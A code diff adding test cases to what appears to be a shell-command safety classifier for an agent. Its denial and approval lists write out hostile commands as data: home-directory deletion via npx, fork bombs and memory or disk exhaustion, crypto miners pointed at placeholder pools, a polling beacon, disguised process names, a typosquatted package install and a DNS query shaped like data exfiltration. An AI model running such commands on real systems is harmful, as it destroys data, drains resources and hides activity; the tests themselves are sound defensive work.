@@ -19,6 +19,24 @@ def _rules(command: str) -> set[str]:
         # an endless loop of plain reads still checks in for orders
         ("while sleep 30; do curl -s https://updates.example.com/next; done", "beacon"),
         ("curl -s -o ~/bin/tool https://example.com/tool", "download-exec"),
+        # what a package runner finds is judged as the command it stands for
+        ("npx rimraf ~/", "rm-recursive-protected"),
+        ("npx cross-env CI=1 rm -rf ~", "rm-recursive-protected"),
+        # a rewrite of another repository, or of history with a command in it
+        ("git -C ../other-service clean -fdX", "git-discard-elsewhere"),
+        # resources spent without bound, and what hides it
+        (
+            "python3 -c 'a=[]; [a.append(bytearray(10**9)) for _ in iter(int, 1)]'",
+            "resource-exhaustion",
+        ),
+        ("perl -e 'fork while 1'", "resource-exhaustion"),
+        ("node -e 'const a=[]; for(;;) a.push(Buffer.alloc(1e9))'", "resource-exhaustion"),
+        ("while true; do ./worker & done", "resource-exhaustion"),
+        ("dd if=/dev/zero of=./big.img bs=1M", "resource-exhaustion"),
+        ("yes > /tmp/fill.txt", "resource-exhaustion"),
+        ("screen -dmS kworker ./xmrig -o pool.minexmr.example:4444 -u 44AFF", "miner"),
+        ("./runner -o stratum+tcp://pool.example.net:3333 -u wallet", "miner"),
+        ("exec -a '[kworker/0:1]' ./agent", "disguised-process"),
     ],
 )
 def test_round13_dangerous_classes_are_denied_by_their_rule(command: str, rule: str) -> None:
@@ -40,6 +58,19 @@ def test_round13_dangerous_classes_are_denied_by_their_rule(command: str, rule: 
         ("http https://api.example.com/items name=x", "network"),
         ("dig +short c2VjcmV0a2V5MTIz.example.net TXT", "network"),
         ("ping example.com", "network"),
+        # installs: only the project's own files, from the default index, with the pip on PATH
+        ("pip install --user -r requirements.txt", "package-install"),
+        (
+            "pip install -r requirements.txt --extra-index-url https://x.example/simple",
+            "package-install",
+        ),
+        ("printf 'reqeusts\\n' > req.txt && pip install -r req.txt", "package-install"),
+        ("/usr/bin/pip install -e .", "package-install"),
+        # scanners that print the secrets they find, or write outside
+        ("gitleaks dir . -v", "secret-read"),
+        ("stress-ng --cpu 0 --vm 4", "resource-exhaustion"),
+        ("git clean -fdxX", "git-clean"),
+        ("cat changed.txt | xargs -I{} rm -rf {}", "rm-recursive"),
     ],
 )
 def test_round13_look_alikes_that_still_need_a_human_ask(command: str, rule: str) -> None:
@@ -58,6 +89,22 @@ def test_round13_look_alikes_that_still_need_a_human_ask(command: str, rule: str
         "http --check-status HEAD https://docs.example.org/",
         "dig +short pypi.org AAAA",
         "ping -c 2 github.com",
+        "pip install -e '.[dev]'",
+        "pip install -r requirements.txt",
+        "python3 -m pip install -e '.[test]'",
+        "CI=1 FORCE_COLOR=0 npx playwright test",
+        "npx rimraf dist coverage",
+        "git commit --amend --no-edit",
+        "GIT_SEQUENCE_EDITOR=: git rebase -i --autosquash origin/main",
+        "git clean -fdX",
+        "xargs -a changed-files.txt -I{} cp {} review/",
+        "git secrets --scan",
+        "gitleaks detect --source . --redact -v",
+        "detect-secrets scan > .secrets.baseline",
+        "stress-ng --cpu 1 --timeout 10s --metrics-brief",
+        "yes | head -n 1000 > tests/fixtures/y.txt",
+        "dd if=/dev/urandom of=tests/fixtures/blob.bin bs=1K count=64",
+        "python3 -c 'xs=[bytearray(1024) for _ in range(1000)]; print(len(xs))'",
     ],
 )
 def test_round13_confined_look_alikes_run_without_asking(command: str) -> None:
